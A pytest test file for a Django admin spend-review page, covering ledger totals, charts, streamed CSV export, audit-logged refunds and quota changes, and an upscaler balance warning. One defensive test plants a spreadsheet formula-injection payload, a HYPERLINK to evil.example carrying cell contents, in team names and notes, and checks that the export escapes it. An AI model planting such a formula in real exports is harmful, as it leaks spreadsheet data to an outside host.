"""The admin spend review: numbers equal the ledger, the CSV round-trips, refunds and quota
changes are audit-logged, APIXO's balance is checked against queued work."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
import time_machine
from django.contrib.auth.models import User
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from jobs import apixo
from jobs.models import AuditEntry, Budget, Charge, Job, Team
from spend import services as spend
from tests.conftest import make_job, make_team, make_team_job

pytestmark = [pytest.mark.django_db, pytest.mark.timeout(30)]

TODAY = datetime(2026, 11, 20, 15, 0, tzinfo=UTC)


def _charge(user: User, when: datetime, team: Team | None = None, state: str = "success") -> Charge:
    """A charged job, written as the worker does, at a given moment."""
    with time_machine.travel(when, tick=False):
        budget = team.budget if team else user.budget
        assert Budget.objects.get(pk=budget.pk).reserve(1)
        job = (
            make_team_job(team, user, Job.State.SUBMITTING)
            if team
            else make_job(user, Job.State.SUBMITTING)
        )
        assert job.accept(f"task-{job.pk}")
        if state == "failed":
            job.fail((Job.State.PENDING,), "SensitiveContent", "nope")
        else:
            job.move((Job.State.PENDING,), Job.State.SUCCESS)
    return Charge.objects.get(job=job)


@pytest.fixture
def seeded(alice: User, bob: User, charlie: User) -> dict[str, Any]:
    """Charges over three months by three users, personal and in two teams, one refund."""
    Budget.objects.all().update(limit_cents=None)
    acme, zeta = make_team(alice, "Acme", quota=None), make_team(charlie, "Zeta", quota=None)
    plan = [
        (alice, TODAY, None),
        (alice, TODAY - timedelta(hours=3), acme),
        (bob, TODAY - timedelta(days=1), acme),
        (bob, TODAY - timedelta(days=2), acme),
        (charlie, TODAY - timedelta(days=5), zeta),
        (charlie, TODAY - timedelta(days=25), None),  # October
        (bob, TODAY - timedelta(days=60), None),  # September: outside a 30-day range
    ]
    charges = [_charge(u, when, team) for u, when, team in plan]
    _charge(bob, TODAY - timedelta(days=1), acme, state="failed")
    root = User.objects.create_user("auditor", is_staff=True)
    with time_machine.travel(TODAY - timedelta(hours=1), tick=False):
        spend.refund(charges[3], root, "duplicate")
    return {"acme": acme, "zeta": zeta}


def _ledger(start: date, end: date) -> list[Charge]:
    return [c for c in Charge.objects.all() if start <= c.created.date() <= end]


# --- the page ---------------------------------------------------------------------------


def test_it_shows_totals_equal_to_the_ledger(staff_client: Client, seeded: dict[str, Any]) -> None:
    with time_machine.travel(TODAY, tick=False):
        totals = staff_client.get(reverse("spend")).context["totals"]
    ledger = list(Charge.objects.all())
    assert totals["all_time"] == sum(c.amount_cents for c in ledger) == 8 - 1
    assert totals["month"] == sum(c.amount_cents for c in ledger if c.created.month == 11)
    assert totals["today"] == sum(
        c.amount_cents for c in ledger if c.created.date() == TODAY.date()
    )


def test_it_breaks_the_range_down_per_user_as_the_ledger_does(
    staff_client: Client, seeded: dict[str, Any]
) -> None:
    with time_machine.travel(TODAY, tick=False):
        ctx = staff_client.get(reverse("spend")).context
    start, end = TODAY.date() - timedelta(days=29), TODAY.date()
    expected: dict[str, int] = {}
    for c in _ledger(start, end):
        assert c.user is not None
        expected[c.user.username] = expected.get(c.user.username, 0) + c.amount_cents
    assert {row["name"]: row["cents"] for row in ctx["per_user"]} == expected
    assert ctx["range_total"] == sum(expected.values())


def test_it_breaks_the_range_down_per_team_as_the_ledger_does(
    staff_client: Client, seeded: dict[str, Any]
) -> None:
    with time_machine.travel(TODAY, tick=False):
        rows = staff_client.get(reverse("spend")).context["per_team"]
    assert {row["name"]: row["cents"] for row in rows} == {"Acme": 3 - 1 + 1, "Zeta": 1}


def test_it_draws_one_bar_per_day_summing_to_the_range(
    staff_client: Client, seeded: dict[str, Any]
) -> None:
    with time_machine.travel(TODAY, tick=False):
        r = staff_client.get(reverse("spend"))
    chart = r.context["chart"]
    assert len(chart.bars) == 30 and chart.by == "day"
    assert sum(b.cents for b in chart.bars) == r.context["range_total"]
    assert r.content.decode().count('class="bar"') == 30


def test_it_filters_by_a_bookmarkable_date_range(
    staff_client: Client, seeded: dict[str, Any]
) -> None:
    r = staff_client.get(reverse("spend"), {"start": "2026-09-01", "end": "2026-10-31"})
    start, end = date(2026, 9, 1), date(2026, 10, 31)
    assert r.context["range_total"] == sum(c.amount_cents for c in _ledger(start, end)) == 2
    assert 'value="2026-09-01"' in r.content.decode()


def test_it_buckets_a_long_range_by_month(staff_client: Client, seeded: dict[str, Any]) -> None:
    r = staff_client.get(reverse("spend"), {"start": "2026-01-01", "end": "2026-11-30"})
    chart = r.context["chart"]
    assert chart.by == "month" and len(chart.bars) == 11
    assert sum(b.cents for b in chart.bars) == r.context["range_total"]


def test_it_explains_a_backwards_range(staff_client: Client) -> None:
    r = staff_client.get(reverse("spend"), {"start": "2026-10-31", "end": "2026-09-01"})
    assert "The start date is after the end date" in r.content.decode()


def test_it_reports_the_failure_rate_and_top_codes(
    staff_client: Client, seeded: dict[str, Any]
) -> None:
    with time_machine.travel(TODAY, tick=False):
        failures = staff_client.get(reverse("spend")).context["failures"]
    assert (failures["finished"], failures["failed"]) == (7, 1)
    assert failures["rate"] == round(100 / 7, 1)
    assert failures["top_codes"] == [{"fail_code": "SensitiveContent", "n": 1}]


# --- the CSV export -----------------------------------------------------------------------


def _csv(staff_client: Client, **params: str) -> tuple[StreamingHttpResponse, list[dict[str, str]]]:
    r = staff_client.get(reverse("spend_csv"), params)
    assert isinstance(r, StreamingHttpResponse)
    text = b"".join(r.streaming_content).decode()
    return r, list(csv.DictReader(io.StringIO(text)))


def test_it_exports_a_csv_that_sums_to_the_ledger(
    staff_client: Client, seeded: dict[str, Any]
) -> None:
    r, rows = _csv(staff_client, start="2026-01-01", end="2026-12-31")
    assert r["Content-Disposition"] == 'attachment; filename="ledger-2026-01-01-2026-12-31.csv"'
    ledger = list(Charge.objects.all())
    assert len(rows) == len(ledger)
    assert sum(int(row["amount_cents"]) for row in rows) == sum(c.amount_cents for c in ledger)
    assert sum(Decimal(row["amount_usd"]) for row in rows) == Decimal("0.07")


def test_it_round_trips_each_ledger_row(staff_client: Client, seeded: dict[str, Any]) -> None:
    _, rows = _csv(staff_client, start="2026-01-01", end="2026-12-31")
    refund = next(row for row in rows if row["kind"] == "refund")
    original = Charge.objects.get(kind="refund").refund_of
    assert original is not None
    assert refund["job"] == str(original.job_code)
    assert (refund["amount_cents"], refund["note"], refund["refunded_by"]) == (
        "-1",
        "duplicate",
        "auditor",
    )
    assert refund["team"] == "Acme" and refund["user"] == "bob"
    assert [row["created_utc"] for row in rows] == sorted(row["created_utc"] for row in rows)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_names_a_spreadsheet_would_run_as_formulas(
    staff_client: Client, alice: User, start: str
) -> None:
    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    team = make_team(alice, hostile, quota=None)
    charge = _charge(alice, TODAY, team)
    Charge.objects.filter(pk=charge.pk).update(note=hostile)
    _, rows = _csv(staff_client, start="2026-11-01", end="2026-11-30")
    assert rows[0]["team"] == rows[0]["note"] == "'" + hostile
    assert rows[0]["user"] == "alice" and rows[0]["amount_cents"] == "1"


def test_it_exports_only_the_range(staff_client: Client, seeded: dict[str, Any]) -> None:
    _, rows = _csv(staff_client, start="2026-09-01", end="2026-10-31")
    assert len(rows) == 2


def test_it_streams_the_csv_a_chunk_at_a_time(
    seeded: dict[str, Any], django_assert_num_queries: Any
) -> None:
    """A lazy generator over one chunked query: nothing is read before it's asked for."""
    count = Charge.objects.count()
    lines = spend.ledger_csv(spend.DateRange(date(2026, 1, 1), date(2026, 12, 31)), chunk_size=2)
    with django_assert_num_queries(0):
        assert next(lines).startswith("created_utc,kind,amount_cents")
    with django_assert_num_queries(2):  # the user ledger, then the operator's costs
        assert len(list(lines)) == count


def test_it_sends_no_content_length_for_the_csv(staff_client: Client) -> None:
    r = staff_client.get(reverse("spend_csv"))
    assert r.streaming and not r.has_header("Content-Length")


# --- refunds and quota changes ------------------------------------------------------------


def test_it_refunds_a_charge_with_a_new_negative_entry(staff_client: Client, alice: User) -> None:
    charge = _charge(alice, TODAY)
    r = staff_client.post(
        reverse("spend_refund"), {"job": charge.job_code, "reason": "blurry result"}
    )
    assert r.status_code == 302
    refund = Charge.objects.get(kind=Charge.Kind.REFUND)
    assert (refund.amount_cents, refund.note, refund.refund_of) == (-1, "blurry result", charge)
    assert refund.created_by is not None and refund.created_by.username == "root"


def test_it_lowers_spent_by_the_refund(staff_client: Client, alice: User) -> None:
    charge = _charge(alice, TODAY)
    staff_client.post(reverse("spend_refund"), {"job": charge.job_code, "reason": "x"})
    assert Budget.objects.get(user=alice).spent_cents == 0


def test_it_leaves_the_refunded_charge_untouched(staff_client: Client, alice: User) -> None:
    charge = _charge(alice, TODAY)
    before = Charge.objects.filter(pk=charge.pk).values().get()
    staff_client.post(reverse("spend_refund"), {"job": charge.job_code, "reason": "x"})
    assert Charge.objects.filter(pk=charge.pk).values().get() == before


def test_it_refunds_a_charge_only_once(staff_client: Client, alice: User) -> None:
    charge = _charge(alice, TODAY)
    staff_client.post(reverse("spend_refund"), {"job": charge.job_code, "reason": "x"})
    r = staff_client.post(
        reverse("spend_refund"), {"job": charge.job_code, "reason": "x"}, follow=True
    )
    assert "refunded already" in r.content.decode()
    assert Charge.objects.filter(kind=Charge.Kind.REFUND).count() == 1
    assert Budget.objects.get(user=alice).spent_cents == 0


def test_it_needs_a_reason_to_refund(staff_client: Client, alice: User) -> None:
    charge = _charge(alice, TODAY)
    staff_client.post(reverse("spend_refund"), {"job": charge.job_code, "reason": ""})
    assert not Charge.objects.filter(kind=Charge.Kind.REFUND).exists()


def test_it_audit_logs_a_refund(staff_client: Client, alice: User) -> None:
    charge = _charge(alice, TODAY)
    staff_client.post(reverse("spend_refund"), {"job": charge.job_code, "reason": "blurry"})
    entry = AuditEntry.objects.get()
    assert (entry.actor_name, entry.action) == ("root", "refund")
    assert "Refunded $0.01: blurry" in entry.detail
    assert "blurry" in staff_client.get(reverse("spend")).content.decode()


def test_it_adjusts_a_users_quota_and_logs_it(staff_client: Client, alice: User) -> None:
    staff_client.post(reverse("spend_quota"), {"user": "alice", "amount": "5.00", "note": "pilot"})
    assert Budget.objects.get(user=alice).limit_cents == 500
    entry = AuditEntry.objects.get()
    assert entry.detail == "Quota $1.00 -> $5.00: pilot" and entry.target == "user alice"


def test_it_adjusts_a_teams_quota_and_cap(staff_client: Client, alice: User) -> None:
    team = make_team(alice)
    staff_client.post(reverse("spend_quota"), {"team": team.code, "amount": ""})
    team.budget.refresh_from_db()
    assert (team.budget.limit_cents, team.budget.cap_cents) == (None, None)
    assert AuditEntry.objects.get().detail == "Quota $1.00 -> unlimited"


def test_it_refuses_a_quota_change_for_nobody(staff_client: Client) -> None:
    r = staff_client.post(reverse("spend_quota"), {"amount": "5"}, follow=True)
    assert "Choose one user or one team" in r.content.decode()
    assert not AuditEntry.objects.exists()


# --- APIXO's balance ----------------------------------------------------------------------


def test_it_warns_when_apixo_cannot_cover_the_queued_work(
    staff_client: Client, alice: User, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.USING_ENGINE = False
    monkeypatch.setattr(apixo, "get_balance", lambda: Decimal("0.02"))
    for _ in range(3):
        make_job(alice, Job.State.QUEUED)
    body = staff_client.get(reverse("spend")).content.decode()
    assert "APIXO balance: $0.02. Work waiting to be sent needs $0.03." in body
    assert "The balance is lower than that" in body


def test_it_shows_a_sufficient_balance_without_warning(
    staff_client: Client, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.USING_ENGINE = False
    monkeypatch.setattr(apixo, "get_balance", lambda: Decimal("12.50"))
    body = staff_client.get(reverse("spend")).content.decode()
    assert "APIXO balance: $12.50" in body and "lower than that" not in body


def test_it_says_when_the_balance_cannot_be_read(
    staff_client: Client, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.USING_ENGINE = False

    def broken() -> Decimal:
        raise apixo.UpscalerError("APIXO is down.", permanent=False)

    monkeypatch.setattr(apixo, "get_balance", broken)
    assert (
        "Couldn't read APIXO's balance: APIXO is down."
        in staff_client.get(reverse("spend")).content.decode()
    )


def test_it_skips_the_balance_with_the_engine(staff_client: Client, settings: Any) -> None:
    settings.USING_ENGINE = True
    assert "APIXO balance" not in staff_client.get(reverse("spend")).content.decode()
